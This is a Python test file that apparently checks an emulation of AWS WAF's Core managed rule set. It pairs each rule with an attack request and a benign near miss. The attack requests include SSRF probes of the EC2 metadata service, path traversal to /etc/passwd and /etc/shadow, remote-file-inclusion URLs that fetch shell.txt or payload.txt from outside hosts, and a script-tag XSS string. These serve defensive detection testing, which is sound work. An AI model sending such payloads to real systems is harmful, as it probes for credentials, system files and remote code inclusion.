"""The bundled Core rule set (AWSManagedRulesCommonRuleSet): AWS's rules, labels and actions; each rule
on an example from AWS's description or a public attack corpus, and on a benign near miss.

https://docs.aws.amazon.com/waf/latest/developerguide/aws-managed-rule-groups-baseline.html
"""

from __future__ import annotations

import pytest

from tests.bundled.aws_baseline import (
    Documented,
    Example,
    check_blocks,
    check_documented,
    check_fidelity,
    check_loads,
    labels,
    request,
)

GROUP = "AWSManagedRulesCommonRuleSet"
NS = "awswaf:managed:aws:core-rule-set:"

# AWS's table: rule name, label, default action (Block for every rule of this group).
DOCUMENTED = [
    Documented("NoUserAgent_HEADER", NS + "NoUserAgent_Header"),
    Documented("UserAgent_BadBots_HEADER", NS + "BadBots_Header"),
    Documented("SizeRestrictions_QUERYSTRING", NS + "SizeRestrictions_QueryString"),
    Documented("SizeRestrictions_Cookie_HEADER", NS + "SizeRestrictions_Cookie_Header"),
    Documented("SizeRestrictions_BODY", NS + "SizeRestrictions_Body"),
    Documented("SizeRestrictions_URIPATH", NS + "SizeRestrictions_URIPath"),
    Documented("EC2MetaDataSSRF_BODY", NS + "EC2MetaDataSSRF_Body"),
    Documented("EC2MetaDataSSRF_COOKIE", NS + "EC2MetaDataSSRF_Cookie"),
    Documented("EC2MetaDataSSRF_URIPATH", NS + "EC2MetaDataSSRF_URIPath"),
    Documented("EC2MetaDataSSRF_QUERYARGUMENTS", NS + "EC2MetaDataSSRF_QueryArguments"),
    Documented("GenericLFI_QUERYARGUMENTS", NS + "GenericLFI_QueryArguments"),
    Documented("GenericLFI_URIPATH", NS + "GenericLFI_URIPath"),
    Documented("GenericLFI_BODY", NS + "GenericLFI_Body"),
    Documented("RestrictedExtensions_URIPATH", NS + "RestrictedExtensions_URIPath"),
    Documented("RestrictedExtensions_QUERYARGUMENTS", NS + "RestrictedExtensions_QueryArguments"),
    Documented("GenericRFI_QUERYARGUMENTS", NS + "GenericRFI_QueryArguments"),
    Documented("GenericRFI_BODY", NS + "GenericRFI_Body"),
    Documented("GenericRFI_URIPATH", NS + "GenericRFI_URIPath"),
    Documented("CrossSiteScripting_COOKIE", NS + "CrossSiteScripting_Cookie"),
    Documented("CrossSiteScripting_QUERYARGUMENTS", NS + "CrossSiteScripting_QueryArguments"),
    Documented("CrossSiteScripting_BODY", NS + "CrossSiteScripting_Body"),
    Documented("CrossSiteScripting_URIPATH", NS + "CrossSiteScripting_URIPath"),
]
LABEL = {d.rule: d.label for d in DOCUMENTED}
FORM = [("Content-Type", "application/x-www-form-urlencoded")]
SCRIPT = "%3Cscript%3Ealert(%22hello%22)%3C%2Fscript%3E"  # AWS's example, URL-encoded

EXAMPLES = [
    Example("NoUserAgent_HEADER", request(user_agent=None), request(user_agent="curl/8.5.0")),
    Example(
        "UserAgent_BadBots_HEADER",
        request(user_agent="Mozilla/5.0 (compatible; Nmap Scripting Engine; https://nmap.org/book/nse.html)"),
        request(user_agent="Mozilla/5.0 (compatible; Googlebot/2.1; +http://www.google.com/bot.html)"),
    ),
    Example("SizeRestrictions_QUERYSTRING", request("/s?q=" + "a" * 2047), request("/s?q=" + "a" * 2046)),
    Example(
        "SizeRestrictions_Cookie_HEADER",
        request(headers=[("Cookie", "session=" + "c" * 10240)]),
        request(headers=[("Cookie", "session=" + "c" * 4096)]),
    ),
    Example(
        "SizeRestrictions_BODY",
        request("/upload", method="POST", body=b"x" * 8193),
        request("/upload", method="POST", body=b"x" * 8192),
    ),
    Example("SizeRestrictions_URIPATH", request("/" + "p" * 1024), request("/" + "p" * 1023)),
    Example(
        "EC2MetaDataSSRF_BODY",
        request("/fetch", method="POST", headers=FORM, body="url=http://169.254.169.254/latest/meta-data/"),
        request("/fetch", method="POST", headers=FORM, body="url=http://169.254.169.25/status"),
    ),
    Example(
        "EC2MetaDataSSRF_COOKIE",
        request(headers=[("Cookie", "next=http%3A%2F%2F169.254.169.254%2Flatest%2Fuser-data")]),
        request(headers=[("Cookie", "next=%2Faccount%2Forders")]),
    ),
    Example(
        "EC2MetaDataSSRF_URIPATH",
        request("/proxy/169.254.169.254/latest/meta-data/iam/"),
        request("/proxy/images.example.com/latest/"),
    ),
    Example(
        "EC2MetaDataSSRF_QUERYARGUMENTS",
        request("/fetch?url=http://0xa9fea9fe/latest/meta-data/"),
        request("/fetch?url=http://example.com/latest/"),
    ),
    Example(
        "GenericLFI_QUERYARGUMENTS",
        request("/view?file=../../../../etc/passwd"),
        request("/view?pages=1..10"),
    ),
    Example(
        "GenericLFI_URIPATH", request("/static/..%2f..%2f..%2fetc/shadow"), request("/docs/v1.2/index.html")
    ),
    Example(
        "GenericLFI_BODY",
        request("/render", method="POST", headers=FORM, body="template=..%5C..%5Cwindows%5Cwin.ini"),
        request("/render", method="POST", headers=FORM, body="comment=To+be+continued..."),
    ),
    Example("RestrictedExtensions_URIPATH", request("/logs/error.log"), request("/blog/catalog")),
    Example(
        "RestrictedExtensions_QUERYARGUMENTS", request("/get?file=php.ini"), request("/get?file=report.pdf")
    ),
    Example(
        "GenericRFI_QUERYARGUMENTS",
        request("/timthumb.php?src=http://66.240.183.75/crash.php"),  # CRS regression test 931100-1
        request("/timthumb.php?src=https://cdn.example.com/logo.png"),
    ),
    Example(
        "GenericRFI_BODY",
        request("/import", method="POST", headers=FORM, body="feed=ftp%3A%2F%2F192.0.2.10%2Fpayload.txt"),
        request("/import", method="POST", headers=FORM, body="feed=ftp%3A%2F%2Ffiles.example.com%2Ffeed.txt"),
    ),
    Example(
        "GenericRFI_URIPATH",
        request("/include/http://203.0.113.5/shell.txt"),
        request("/include/http-status"),
    ),
    Example(
        "CrossSiteScripting_COOKIE",
        request(headers=[("Cookie", f"pref={SCRIPT}")]),
        request(headers=[("Cookie", "pref=dark-mode; lang=en")]),
    ),
    Example(
        "CrossSiteScripting_QUERYARGUMENTS",
        request(f"/search?q={SCRIPT}"),
        request("/search?q=fish+%26+chips"),
    ),
    Example(
        "CrossSiteScripting_BODY",
        request("/comment", method="POST", headers=FORM, body=f"text={SCRIPT}"),
        request("/comment", method="POST", headers=FORM, body="text=Great+service%2C+thanks%21"),
    ),
    Example(
        "CrossSiteScripting_URIPATH",
        request(f"/search/{SCRIPT}"),
        request("/search/scripts/alerts"),
    ),
]
BY_RULE = {e.rule: e for e in EXAMPLES}


def test_rules_labels_and_actions_are_the_documented_ones() -> None:
    check_documented(GROUP, "core-rule-set", DOCUMENTED)


def test_every_rule_has_a_fidelity_tier() -> None:
    check_fidelity(GROUP)


def test_loads_and_validates() -> None:
    model = check_loads(GROUP)
    assert [r.name for r in model.rules] == [d.rule for d in DOCUMENTED]


def test_every_rule_has_an_example() -> None:
    assert sorted(BY_RULE) == sorted(LABEL)


@pytest.mark.parametrize("rule", [d.rule for d in DOCUMENTED])
def test_rule_fires_on_its_example(rule: str) -> None:
    assert LABEL[rule] in labels(GROUP, BY_RULE[rule].attack)


@pytest.mark.parametrize("rule", [d.rule for d in DOCUMENTED])
def test_rule_stays_quiet_on_a_near_miss(rule: str) -> None:
    assert LABEL[rule] not in labels(GROUP, BY_RULE[rule].near_miss)


@pytest.mark.parametrize("rule", ["CrossSiteScripting_QUERYARGUMENTS", "GenericLFI_QUERYARGUMENTS"])
def test_web_acl_blocks_with_the_label(rule: str) -> None:
    check_blocks(GROUP, BY_RULE[rule], LABEL[rule])


def test_oversize_body_counts_as_over_the_limit() -> None:
    # The web ACL inspects 8 KB of a regional body; a larger body is over AWS's 8,192 bytes.
    big = request("/upload", method="POST", body=b"x" * 20000)
    assert LABEL["SizeRestrictions_BODY"] in labels(GROUP, big)


JSON = [("Content-Type", "application/json")]
# Benign requests that come close to a pattern of the group: each once matched, or nearly did.
BENIGN = {
    "an ellipsis before a newline in JSON text": request(
        "/api/notes", method="POST", headers=JSON, body='{"text": "Traceback:\\n  ...\\n  ValueError"}'
    ),
    "Python's self.write in JSON text": request(
        "/api/notes", method="POST", headers=JSON, body='{"text": "The output is written by self.write()."}'
    ),
    "a word after '<' that starts with a tag name": request("/search?q=price+%3Cbaseline"),
    "a range of pages": request("/book?pages=12..15"),
    "a version in the path": request("/download/v2.4.1/setup.exe"),
    "a private address without a URL scheme": request("/admin-ui?server=192.0.2.7"),
    "a .json file in the path": request("/static/config.json"),
    "a link-local address other than the metadata service": request("/check?ip=169.254.1.1"),
}


@pytest.mark.parametrize("case", sorted(BENIGN))
def test_group_leaves_benign_requests_alone(case: str) -> None:
    assert labels(GROUP, BENIGN[case]) == ()
